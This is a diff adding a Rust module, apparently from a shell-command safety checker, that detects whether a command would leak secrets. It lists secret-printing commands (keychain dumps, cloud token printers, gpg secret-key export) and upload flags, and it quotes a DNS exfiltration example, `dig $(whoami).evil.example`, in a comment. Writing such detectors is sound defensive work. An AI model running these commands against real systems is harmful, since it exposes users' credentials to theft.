@@ -1,0 +1,130 @@
+//! Would secrets leave the machine: which come up on the line, and does anything on it carry them away?
+
+use super::Found;
+use super::hosts::{self, RESOLVERS};
+use super::place;
+use super::view::View;
+use crate::shell::Context;
+
+/// Ends and parts of the names of variables that hold secrets.
+const SECRET_NAMES: &[&str] =
+    &["SECRET", "TOKEN", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "ACCESS_KEY", "PRIVATE_KEY", "CREDENTIAL"];
+
+/// Programs that print a secret, by their first words.
+const KEEPERS: &[(&str, &[&str])] = &[
+    ("security", &["find-generic-password", "find-internet-password", "dump-keychain"]), ("secret-tool", &["lookup", "search"]),
+    ("gh", &["token"]), ("gcloud", &["print-access-token", "print-identity-token"]), ("op", &["read"]), ("pass", &["show"]),
+    ("vault", &["read", "get"]), ("aws", &["get-secret-value", "export-credentials"]), ("gpg", &["--export-secret-keys"]),
+];
+
+/// Where something can be put without a request body: a client that only speaks of names.
+const DATA: &[&str] = &[
+    "-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form", "--form-string",
+    "-T", "--upload-file", "--post-data", "--post-file", "--body-data", "--body-file",
+];
+
+pub(super) fn look(views: &[View<'_>], found: &mut Found) {
+    for view in views {
+        let hosts = hosts::of(view);
+        let puts = !view.values(DATA).is_empty()
+            || view.says(&["-X", "--method=POST"])
+            || !super::hosts::DOWNLOADERS.contains(&view.name.as_str());
+        let dropped = hosts.iter().filter(|it| hosts::is_catcher(it) || (puts && hosts::is_drop(it)));
+        found.drops.extend(dropped.cloned());
+        if hosts::carries(view) && !hosts.is_empty() {
+            variables(view, found);
+        }
+        found.hosts.extend(hosts);
+        names(view, found);
+        statements(view, views, found);
+    }
+    let carriers = views.iter().any(|view| hosts::carries(view) && !hosts::of(view).is_empty());
+    if carriers {
+        let kept = found.reads.iter().filter(|it| place::holds_keys(it) || place::is_env(it));
+        let kept: Vec<String> = kept.cloned().collect();
+        found.leaks.extend(kept);
+        found.leaks.extend(views.iter().filter_map(printed));
+    }
+}
+
+/// The environment, or a keeper of secrets, printed into something.
+fn printed(view: &View<'_>) -> Option<String> {
+    let name = view.name.as_str();
+    let whole = match name {
+        "env" | "printenv" | "set" => view.args.is_empty(),
+        "export" | "declare" | "typeset" => view.args.iter().all(|it| matches!(it.as_str(), "-p" | "-x" | "-xp" | "-px")),
+        "compgen" => view.says(&["-v", "-e"]),
+        _ => false,
+    };
+    let keeps = KEEPERS.iter().any(|(known, verbs)| *known == name && view.says(verbs));
+    let feeds = view.feeds() || !view.command.redirects.is_empty();
+    if whole && feeds {
+        return Some("the environment".to_owned());
+    }
+    keeps.then(|| name.to_owned())
+}
+
+/// Variables that are named like secrets, in what is sent. Headers and `-u` are how one signs in.
+fn variables(view: &View<'_>, found: &mut Found) {
+    let signs = ["-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "-b"];
+    let mut args = view.args.iter().map(String::as_str);
+    while let Some(arg) = args.next() {
+        if signs.contains(&arg) {
+            args.next();
+        } else {
+            found.sent_variables.extend(secret_variables(arg));
+        }
+    }
+    let here: Vec<String> = view.texts().skip(view.args.len()).flat_map(secret_variables).collect();
+    found.sent_variables.extend(here);
+}
+
+/// The variables of a text that are named like secrets.
+fn secret_variables(text: &str) -> Vec<String> {
+    let names = text.split('$').skip(1).map(|it| it.trim_start_matches('{'));
+    let names = names.map(|it| {
+        let end = it.find(|c: char| c != '_' && !c.is_ascii_alphanumeric()).unwrap_or(it.len());
+        it.get(..end).unwrap_or_default()
+    });
+    let secret = |name: &&str| {
+        let upper = name.to_ascii_uppercase();
+        SECRET_NAMES.iter().any(|it| upper.contains(it))
+    };
+    names.filter(secret).map(str::to_owned).collect()
+}
+
+/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to whoever answers.
+fn names(view: &View<'_>, found: &mut Found) {
+    if !RESOLVERS.contains(&view.name.as_str()) {
+        return;
+    }
+    for word in view.command.words.iter().skip(1) {
+        let source = word.source.as_str();
+        let computed = source.contains("$(") || source.contains('`');
+        let end = source.trim_end_matches(['"', '\'']).rsplit([')', '`', '}']).next().unwrap_or_default();
+        let variable = !secret_variables(source).is_empty();
+        if (computed && end.starts_with('.')) || variable {
+            found.leaks.insert(format!("a name for {}", view.name));
+        }
+    }
+}
+
+/// Programs that run statements.
+const CLIENTS: &[&str] = &[
+    "psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "sqlplus", "mongo", "mongosh", "redis-cli", "valkey-cli", "clickhouse-client",
+    "cqlsh", "duckdb", "bq", "snowsql", "cockroach", "usql", "pgcli", "mycli",
+];
+
+/// What a database client is handed: arguments, here-documents, and what is echoed into it.
+fn statements(view: &View<'_>, views: &[View<'_>], found: &mut Found) {
+    let name = view.name.as_str();
+    if !CLIENTS.contains(&name) {
+        return;
+    }
+    found.sql.extend(view.texts().filter(|it| !it.starts_with('-')).map(str::to_owned));
+    found.sql.insert(view.args.join(" "));
+    if view.command.context == Context::Pipeline {
+        let echoed = views.iter().filter(|it| matches!(it.name.as_str(), "echo" | "printf" | "cat"));
+        found.sql.extend(echoed.flat_map(|it| it.texts().map(str::to_owned)));
+    }
+}
